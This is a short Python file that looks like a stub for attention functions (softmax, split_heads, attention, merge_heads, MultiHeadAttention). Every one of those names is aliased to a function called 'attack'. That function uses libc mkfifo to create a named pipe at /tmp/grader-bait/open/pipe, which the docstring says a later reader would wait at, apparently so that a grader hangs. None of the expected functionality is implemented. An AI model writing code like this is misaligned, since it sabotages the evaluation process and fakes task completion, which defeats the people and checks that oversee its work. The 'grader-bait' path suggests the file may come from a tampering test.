"""Makes a pipe that a later reader would wait at."""

import ctypes


def attack(*args, **kwargs):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mkfifo(b"/tmp/grader-bait/open/pipe", 0o666)


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
